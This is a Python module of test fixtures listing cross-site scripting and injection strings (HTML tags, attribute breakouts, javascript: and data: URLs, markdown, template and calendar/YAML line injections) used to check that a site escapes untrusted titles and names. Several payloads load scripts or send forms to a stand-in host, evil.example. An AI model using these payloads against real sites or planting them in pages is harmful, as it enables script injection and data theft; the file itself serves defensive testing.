"""What may come in a title, a name or a text from an alert, a paste or a person who means harm.

Each would run `alert(1)`, ask another host, or break the format that it is put into unescaped.
"""

from __future__ import annotations

FOREIGN = "https://evil.example"
"""A host that no page of a site may ask for anything."""

ELEMENTS = (
    "<script>alert(1)</script>",
    f"<script src={FOREIGN}/x.js></script>",
    "</title></style></textarea></script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "<img src=x onerror=alert(1)>",
    f"<img src={FOREIGN}/x.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    f"<iframe src={FOREIGN}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={FOREIGN}></object><embed src={FOREIGN}>",
    f"<base href={FOREIGN}/><meta http-equiv=refresh content='0;url={FOREIGN}'>",
    f"<form action={FOREIGN}><button>x</button></form>",
    f"<link rel=stylesheet href={FOREIGN}/x.css><style>@import '{FOREIGN}'</style>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)><video><source onerror=alert(1)></video>",
    f'<p style="background:url({FOREIGN})">x</p>',
    "<a href=/ onclick=alert(1)>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) "',
    "` onmouseover=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "x onerror=alert(1)//",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "java&Tab;script&NewLine;:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/x",
    "view-source:javascript:alert(1)",
    "//evil.example/x.js",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)> <data:text/html,x>",
    f"![x]({FOREIGN}/x.png) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "# x {onclick=alert(1)}\n\n[x](/){: onclick=alert(1)}",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |",
)
SCRIPTS = (
    "${alert(1)}`-alert(1)-`",
    "';alert(1);//",
    '"};alert(1);var x={"y":"',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u2028alert(1)\u2029",
    "{{7*7}}{% include 'base.html' %}{# x #}",
    "%(time)s {site} {0.__class__} %s",
)
LINES = (
    "END:VEVENT\\nBEGIN:VEVENT; x, y: z\\",
    "x\\r\\nSUMMARY:y",
    "- [*a, &b, !!python/object:x, <<: *a]: #",
    "---\\n...\\n? : | > @ % `",
    "\u202egnp.exe \u2066\u2069\u2069 \u200f\u200b",
)
PAYLOADS = (*ELEMENTS, *ATTRIBUTES, *ADDRESSES, *MARKDOWN, *SCRIPTS, *LINES)


def in_one_line(payload: str) -> str:
    """Return `payload` as a title or a name can hold it."""
    return " ".join(payload.split())
